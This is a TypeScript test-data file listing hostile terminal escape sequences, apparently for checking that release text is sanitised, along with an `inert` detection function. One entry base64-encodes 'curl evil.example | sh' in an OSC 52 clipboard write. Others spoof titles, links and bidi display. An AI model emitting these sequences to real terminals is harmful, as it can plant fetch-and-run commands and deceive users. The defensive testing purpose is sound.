/** Test data: text a hostile release could answer or log. */

/** Every sequence a terminal acts on, as a release could answer or log it (within one line). */
export const HOSTILE = {
    osc52: "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    oscTitleSt: "\x1b]0;pwned title\x1b\\",
    oscHyperlink: "\x1b]8;;https://evil.example\x1b\\",
    dcs: "\x1bP1$t\x1b\\",
    apc: "\x1b_Gf=100;AAAA\x1b\\",
    csiClear: "\x1b[2J\x1b[H",
    csiColour: "\x1b[31;1m",
    c1Csi: "\u009b2J",
    c1Osc: "\u009d52;c;ZXZpbA==\u009c",
    reset: "\x1bc",
    controls: "\r\b\x07\x00\x7f\u0085",
    /** Bidi overrides, isolates and marks: "1.2.0" shown as "0.2.1" and the like. */
    bidi: "\u202e\u2066\u2069\u202a\u202c\u200f\u061c",
} as const;

/** True when `s` holds nothing a terminal would act on: no C0 control but tab, no DEL, no C1, no bidi control. */
export const inert = (s: string) => !/[\x00-\x08\x0a-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/.test(s);
